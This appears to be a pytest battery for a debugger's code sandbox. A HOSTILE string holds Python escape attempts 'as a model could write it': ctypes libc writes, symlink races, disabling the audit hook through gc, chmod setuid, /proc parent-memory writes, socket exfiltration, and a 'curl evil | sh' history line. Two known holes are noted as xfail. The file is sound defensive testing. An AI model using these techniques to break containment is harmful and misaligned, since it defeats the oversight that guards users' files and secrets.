"""Plain Python one step past the audit hook, judged on what the world looks like afterwards.

Each attack is a hostile program as a model could write it: ctypes into libc,
`dir_fd`, sqlite, Unix sockets and fifos, readline's history file, links and
renames from the scratch copy out, emptying or replacing the hook, and what
Landlock does not govern (chmod, chown, xattrs, device nodes, UDP, raw and
netlink sockets, io_uring). After each one: the project, an outside folder and
a fake HOME must be byte-, mode-, owner-, xattr- and time-identical, and no
listener may have heard anything. In both setups of conftest.SETUPS.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from battery import World, attempt, describe, sandboxed

from mgdebug.debugger.options import Limits
from mgdebug.debugger.sandbox.landlock import abi_version
from mgdebug.debugger.sandbox.pool import Sandbox

pytestmark = pytest.mark.skipif(abi_version() < 6, reason="needs Landlock ABI 6 (Linux 6.12+)")

HOSTILE = r"""
import ctypes
import gc
import os
import socket
import sys

libc = ctypes.CDLL(None, use_errno=True)


def outcome(code):
    return f"{code} errno={ctypes.get_errno()}"


def libc_unlink(path):
    return outcome(libc.unlink(path.encode()))


def libc_write(path):
    fd = libc.open(path.encode(), os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o644)
    if fd >= 0:
        libc.write(fd, b"owned", 5)
    return outcome(fd)


def libc_truncate(path):
    return outcome(libc.truncate(path.encode(), 0))


def libc_system(path):
    return outcome(libc.system(f"echo owned > {path}; rm -f {path}.x".encode()))


def libc_fork_then_write(path):
    pid = libc.fork()
    if pid == 0:
        fd = libc.open(path.encode(), os.O_WRONLY | os.O_TRUNC)
        libc.write(fd, b"owned", 5)
        libc._exit(0)
    if pid > 0:
        libc.waitpid(pid, None, 0)
    return outcome(pid)


def unlink_with_dir_fd(folder):
    fd = os.open(folder, os.O_RDONLY)
    os.unlink("victim.txt", dir_fd=fd)
    return "unlinked"


def create_with_dir_fd(folder):
    fd = os.open(folder, os.O_RDONLY)
    out = os.open("planted.py", os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=fd)
    os.write(out, b"import os; os.system('id')")
    return "planted"


def sqlite_database(path):
    import sqlite3

    db = sqlite3.connect(path)
    db.execute("create table loot(x)")
    db.commit()
    return "created"


def unix_socket_file(path):
    s = socket.socket(socket.AF_UNIX)
    s.bind(path)
    return "bound"


def fifo(path):
    return outcome(libc.mkfifo(path.encode(), 0o666))


def readline_history(path):
    import readline

    readline.add_history("curl evil | sh")
    readline.write_history_file(path)
    return "written"


def symlink_out_then_write(target):
    libc.symlink(target.encode(), b"innocent.txt")
    fd = libc.open(b"innocent.txt", os.O_WRONLY | os.O_TRUNC)
    return outcome(libc.write(fd, b"owned", 5) if fd >= 0 else fd)


def symlink_race(target):
    import threading

    stop = []

    def flip():
        while not stop:
            libc.unlink(b"race.txt")
            libc.symlink(target.encode(), b"race.txt")
            libc.unlink(b"race.txt")
            open("race.txt", "w").close()

    thread = threading.Thread(target=flip)
    thread.start()
    wins = 0
    for _ in range(2000):
        fd = libc.open(b"race.txt", os.O_WRONLY | os.O_APPEND)
        if fd >= 0:
            libc.write(fd, b"owned", 5)
            libc.close(fd)
            wins += 1
    stop.append(1)
    thread.join()
    return wins


def hardlink_in_then_write(victim):
    libc.link(victim.encode(), b"mine.txt")
    fd = libc.open(b"mine.txt", os.O_WRONLY | os.O_APPEND)
    return outcome(libc.write(fd, b"owned", 5) if fd >= 0 else fd)


def rename_over(project_file):
    with open("evil.py", "w") as f:
        f.write("print('owned')")
    return outcome(libc.rename(b"evil.py", project_file.encode()))


def rename_out(folder):
    with open("payload.txt", "w") as f:
        f.write("owned")
    return outcome(libc.rename(b"payload.txt", (folder + "/payload.txt").encode()))


def empty_the_hook(path):
    for thing in gc.get_objects():
        if callable(thing) and getattr(thing, "__name__", "") == "guard":
            for cell in thing.__closure__ or ():
                try:
                    cell.cell_contents = frozenset()
                except Exception:
                    pass
    with open(path, "w") as f:
        f.write("owned")
    return "written"


def replace_the_hooks_code(path):
    for thing in gc.get_objects():
        if callable(thing) and getattr(thing, "__name__", "") in ("guard", "check_path"):
            thing.__code__ = (lambda *args: None).__code__
    os.remove(path)
    return "removed"


def monkeypatch_os(path):
    os.path.realpath = lambda p, **kw: os.getcwd()
    os.path.abspath = lambda p: os.getcwd()
    os.fspath = lambda p: "innocent.txt"
    os.readlink = lambda p: os.getcwd()
    with open(path, "w") as f:
        f.write("owned")
    return "written"


def chmod_setuid(path):
    return outcome(libc.chmod(path.encode(), 0o4755))


def chmod_world_writable(path):
    fd = os.open(path, os.O_RDONLY)
    return outcome(libc.fchmod(fd, 0o666))


def chmod_secret_readable(path):
    return outcome(libc.chmod(path.encode(), 0o644))


def chown_to_nobody(path):
    return outcome(libc.chown(path.encode(), 65534, 65534))


def set_xattr(path):
    return outcome(libc.setxattr(path.encode(), b"user.owned", b"1", 1, 0))


def touch_times(path):
    return outcome(libc.utimes(path.encode(), None))


def device_node():
    import stat

    made = libc.mknod(b"disk", stat.S_IFBLK | 0o600, os.makedev(7, 0))
    return outcome(made) + f" exists={os.path.exists('disk')}"


def io_uring():
    params = ctypes.create_string_buffer(120)
    return outcome(libc.syscall(425, 8, params))


def udp_exfiltration(port):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendto(b"secret", ("127.0.0.1", port))
    return "sent"


def tcp_exfiltration(port):
    with socket.create_connection(("127.0.0.1", port), timeout=2) as s:
        s.sendall(b"secret")
    return "sent"


def unix_agent(path):
    s = socket.socket(socket.AF_UNIX)
    s.connect(path)
    s.sendall(b"secret")
    return "sent"


def abstract_socket(name):
    s = socket.socket(socket.AF_UNIX)
    s.connect("\0" + name)
    s.sendall(b"secret")
    return "sent"


def raw_socket():
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    return "raw socket open"


def netlink_socket():
    s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
    return "netlink open"


def write_parent_memory():
    with open(f"/proc/{os.getppid()}/mem", "r+b") as f:
        return "opened"
"""

# id -> (function, its argument: a path in the world, or a listener)
ATTACKS = {
    "libc-unlink-project-file": ("libc_unlink", "project/keep.txt"),
    "libc-write-outside": ("libc_write", "outside/victim.txt"),
    "libc-truncate-outside": ("libc_truncate", "outside/victim.txt"),
    "libc-system": ("libc_system", "outside/victim.txt"),
    "libc-fork-then-write": ("libc_fork_then_write", "outside/victim.txt"),
    "unlink-with-dir-fd": ("unlink_with_dir_fd", "outside"),
    "create-with-dir-fd": ("create_with_dir_fd", "project"),
    "sqlite-database-outside": ("sqlite_database", "outside/loot.db"),
    "unix-socket-file-outside": ("unix_socket_file", "outside/listen.sock"),
    "fifo-outside": ("fifo", "outside/pipe"),
    "readline-history-outside": ("readline_history", "home/.bash_history"),
    "symlink-out-then-write": ("symlink_out_then_write", "outside/victim.txt"),
    "symlink-race": ("symlink_race", "outside/victim.txt"),
    "hardlink-in-then-write": ("hardlink_in_then_write", "outside/victim.txt"),
    "rename-over-the-project": ("rename_over", "project/mod.py"),
    "rename-out-of-scratch": ("rename_out", "home"),
    "empty-the-hooks-closure": ("empty_the_hook", "project/keep.txt"),
    "replace-the-hooks-code": ("replace_the_hooks_code", "project/keep.txt"),
    "monkeypatch-os-path": ("monkeypatch_os", "project/keep.txt"),
    "chmod-setuid": ("chmod_setuid", "outside/victim.txt"),
    "fchmod-world-writable": ("chmod_world_writable", "outside/victim.txt"),
    "chown-outside": ("chown_to_nobody", "outside/victim.txt"),
    "xattr-outside": ("set_xattr", "outside/victim.txt"),
    "udp-exfiltration": ("udp_exfiltration", "udp"),
    "tcp-exfiltration": ("tcp_exfiltration", "tcp"),
    "unix-socket-agent": ("unix_agent", "unix"),
    "abstract-unix-socket": ("abstract_socket", "abstract"),
}
# Holes this battery found that today's layers do not close (README, "Security"):
# they hold when the code runs as another user, not as the same one.
SAME_USER_HOLES = {
    "chmod-secret-readable": (
        ("chmod_secret_readable", "home/.ssh/id_rsa"),
        "Landlock does not govern chmod; seccomp refuses setuid/setgid and group/other-"
        "writable modes only, so code running as the file's owner can still make a secret"
        " world-readable (chmod 644)",
    ),
    "touch-times-outside": (
        ("touch_times", "outside/victim.txt"),
        "Landlock does not govern utime: code running as the file's owner can still"
        " change timestamps outside the scratch folder",
    ),
}


@pytest.fixture(scope="module")
def box(setup_limits: Limits, worlds: Callable[[str], World]) -> Iterator[tuple[Sandbox, World]]:
    with sandboxed(worlds(HOSTILE), setup_limits) as opened:
        yield opened


def _run(box: tuple[Sandbox, World], function: str, spec: str) -> None:
    sandbox, world = box
    before = world.state()
    result = attempt(sandbox, world.source, world.call(function, spec))
    assert world.ears.listen() == [], describe(result)
    after = world.state()
    changed = {k for k in before.keys() | after.keys() if before.get(k) != after.get(k)}
    assert not changed, f"{sorted(changed)} changed; the code said {describe(result)}"


@pytest.mark.parametrize("attack", list(ATTACKS))
def test_the_world_is_unchanged_after(box: tuple[Sandbox, World], attack: str) -> None:
    _run(box, *ATTACKS[attack])


@pytest.mark.parametrize("attack", list(SAME_USER_HOLES))
def test_metadata_outside_is_unchanged_after(
    box: tuple[Sandbox, World], attack: str, request: pytest.FixtureRequest
) -> None:
    (function, spec), hole = SAME_USER_HOLES[attack]
    if "same-user" in request.node.callspec.id:
        request.applymarker(pytest.mark.xfail(strict=True, reason=hole))
    _run(box, function, spec)


def test_the_parents_memory_cannot_be_written(box: tuple[Sandbox, World]) -> None:
    sandbox, world = box
    result = attempt(sandbox, world.source, "write_parent_memory()")
    assert result.status == "error" and "Permission" in (result.actual or ""), describe(result)


def test_no_device_node_can_be_made_in_the_scratch_copy(box: tuple[Sandbox, World]) -> None:
    # A block device node for the disk would be writable: it is in the scratch folder.
    sandbox, world = box
    result = attempt(sandbox, world.source, "device_node()")
    assert "exists=False" in (result.actual or ""), describe(result)
    assert not (Path(sandbox.scratch_root) / "disk").exists()


@pytest.mark.parametrize("call", ["io_uring()", "raw_socket()", "netlink_socket()"])
def test_kernel_interfaces_past_the_walls_are_refused(
    box: tuple[Sandbox, World], call: str
) -> None:
    sandbox, world = box
    result = attempt(sandbox, world.source, call)
    refused = result.status == "error" or "-1 errno" in (result.actual or "")
    assert refused, describe(result)
